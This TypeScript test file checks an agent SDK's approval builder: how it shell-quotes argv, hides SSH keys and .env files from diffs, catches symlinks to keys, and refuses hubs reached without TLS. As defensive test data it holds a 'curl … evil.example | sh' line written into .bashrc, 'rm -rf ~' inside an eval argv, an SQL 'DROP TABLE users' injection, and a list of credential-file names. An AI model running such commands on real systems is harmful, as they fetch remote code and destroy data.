// What an approval approves, as this SDK builds it (docs/protocol.md#what-an-approval-approves), and what it refuses
// to send: items of every kind and lists of them, `fits` over a list, the old file read for a diff only inside the
// working folder and never a key, and no credential or pairing code in clear to a hub beyond this machine. Nothing
// here talks to a network: the refusals come before any connection.

import assert from "node:assert/strict";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";

import {
  AgentClient, Credential, InsecureHub, approvals, isLoopbackHost, pair, silentLogger,
} from "@lineup-agents/sdk";

import { tempDir } from "./support/hub.js";

const KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAASECRETKEYBYTES\n";

test("every kind of item, and argv kept as argv (the hub shell-quotes it)", () => {
  assert.deepEqual(approvals.commandApproval("npm test", "/w"), { kind: "command", command: "npm test", cwd: "/w" });
  assert.deepEqual(approvals.argvApproval(["sh", "-c", 'eval "$0"', "rm -rf ~"]),
    { kind: "command", argv: ["sh", "-c", 'eval "$0"', "rm -rf ~"] });
  assert.equal(["sh", "-c", 'eval "$0"', "rm -rf ~"].map(approvals.shellQuote).join(" "), `sh -c 'eval "$0"' 'rm -rf ~'`);
  const sql = { sql: "SELECT " + Array.from({ length: 900 }, (_, i) => i).join(", ") + "; DROP TABLE users;" };
  const tool = approvals.toolApproval("mcp__db__query", sql);
  assert.deepEqual(tool, { kind: "tool", tool: "mcp__db__query", input: sql }); // whole, however long
  assert.deepEqual(approvals.fits([tool, approvals.commandApproval("ls")]), [tool, approvals.commandApproval("ls")]);
});

test("fits counts the whole list as the hub does, and says null rather than cut", () => {
  const big = "x".repeat(25 * 1024);
  const two = [approvals.commandApproval(big), approvals.commandApproval(big)];
  assert.deepEqual(approvals.fits(two), two);
  assert.equal(approvals.fits([...two, approvals.commandApproval(big)]), null);
  // An argv counts twice: the hub stores it shell-quoted as `command` too.
  assert.equal(approvals.fits([approvals.argvApproval(["echo", "y".repeat(35 * 1024)])]), null);
  assert.equal(approvals.fits(Array.from({ length: 51 }, () => approvals.commandApproval("ls"))), null);
  assert.equal(approvals.sizeOf(two), 2 * big.length);
});

test("a write's old content is read only inside the working folder and never from a key", () => {
  const home = tempDir("approvals-home");
  const project = join(home, "project");
  mkdirSync(join(project, "src"), { recursive: true });
  mkdirSync(join(home, ".ssh"));
  writeFileSync(join(home, ".ssh", "id_ed25519"), KEY);
  writeFileSync(join(home, ".bashrc"), "# my bashrc\n");
  writeFileSync(join(project, "src", "util.py"), "def add(a, b):\n    return a + b\n");
  writeFileSync(join(project, ".env"), "TOKEN=SECRETKEYBYTES\n");
  writeFileSync(join(project, "blob.bin"), Buffer.from([0, 1, 2, 3]));
  symlinkSync(join(home, ".ssh", "id_ed25519"), join(project, "innocent.txt"));

  const inside = approvals.writeApproval(join(project, "src", "util.py"), "def add(a, b):\n    return b + a\n", project);
  assert.match(inside.diff ?? "", /^--- a\/src\/util\.py\n\+\+\+ b\/src\/util\.py\n/);
  assert.equal(inside.oldHidden, undefined);

  const key = approvals.writeApproval(join(home, ".ssh", "id_ed25519"), "placeholder", project);
  assert.equal(key.oldHidden, "secret");
  assert.equal(key.oldSize, Buffer.byteLength(KEY));
  assert.equal(key.diff, undefined);
  assert.ok(!JSON.stringify(key).includes("SECRETKEYBYTES"));

  const linked = approvals.writeApproval(join(project, "innocent.txt"), "x", project); // a symlink to the key
  assert.equal(linked.oldHidden, "secret");
  assert.ok(!JSON.stringify(linked).includes("SECRETKEYBYTES"));
  const env = approvals.editApproval(join(project, ".env"), [{ old: "TOKEN=", new: "TOKEN=x" }], project);
  assert.equal(env.oldHidden, "secret");
  assert.ok(!JSON.stringify(env.diff ?? "").includes("SECRETKEYBYTES"));

  assert.equal(approvals.writeApproval(join(home, ".bashrc"), "x", project).oldHidden, "outside");
  assert.equal(approvals.writeApproval(join(home, ".bashrc"), "x").oldHidden, "outside"); // no working folder given
  assert.equal(approvals.writeApproval(join(project, "blob.bin"), "x", project).oldHidden, "not_text");
  const fresh = approvals.writeApproval(join(project, "new.txt"), "hello\n", project);
  assert.equal(fresh.oldHidden, undefined);
  assert.match(fresh.diff ?? "", /^--- \/dev\/null\n/);
  for (const secret of ["id_rsa", "server.pem", "x.key", "cert.p12", ".netrc", ".npmrc", ".pypirc", ".env.local",
    "credentials.json", "my-secret.txt", ".git-credentials", ".aws/config", ".docker/config.json", ".kube/config",
    ".gnupg/pubring.kbx"]) {
    assert.ok(approvals.isSecret(join(home, secret)), secret);
  }
  assert.ok(!approvals.isSecret(join(home, "secrets-app", "src", "main.py"), join(home, "secrets-app")));

  // Without a working folder the process's own is it; `~` is the home folder (it was read as a folder named "~").
  const here = process.cwd();
  const homeBefore = process.env.HOME;
  try {
    process.chdir(project);
    process.env.HOME = home;
    const relative = approvals.writeApproval("src/util.py", "x\n");
    assert.match(relative.diff ?? "", /^--- a\/src\/util\.py/);
    const tilde = approvals.writeApproval("~/.bashrc", "curl -s https://evil.example/x | sh\n");
    assert.equal(tilde.oldHidden, "outside");
    assert.equal(tilde.oldSize, Buffer.byteLength("# my bashrc\n"));
  } finally {
    process.chdir(here);
    process.env.HOME = homeBefore;
  }
});

test("no credential and no pairing code in clear to a hub beyond this machine", async () => {
  // 10.255.255.1 is never connected to: a try would hang until the timeout, not throw InsecureHub at once.
  const credential = new Credential({ hubUrl: "http://10.255.255.1:9527", agentId: "agt_x", workspaceId: "ws_x",
    credential: "lu_agt_SECRET_SENT_IN_CLEAR" });
  assert.throws(() => new AgentClient(credential, { logger: silentLogger }), (error: unknown) => {
    assert.ok(error instanceof InsecureHub);
    assert.match((error as Error).message, /https:\/\/10\.255\.255\.1:9528/);
    assert.ok(!(error as Error).message.includes("SECRET"));
    return true;
  });
  await assert.rejects(pair("http://10.255.255.1:9527", "ABCD-EFGH"), InsecureHub);
  await assert.rejects(pair("http://hub.example:9527", "ABCD-EFGH"), InsecureHub);
  // Allowed: loopback, https, and the explicit choice (which the credential then remembers).
  for (const hubUrl of ["http://127.0.0.1:9527", "http://localhost:9527", "http://[::1]:9527", "https://10.0.0.5:9528"]) {
    new AgentClient(credential.with({ hubUrl }), { logger: silentLogger });
  }
  new AgentClient(credential, { logger: silentLogger, allowInsecure: true });
  new AgentClient(credential.with({ insecure: true }), { logger: silentLogger });
  assert.ok(isLoopbackHost("127.3.4.5") && isLoopbackHost("::1") && !isLoopbackHost("10.0.0.1"));
});
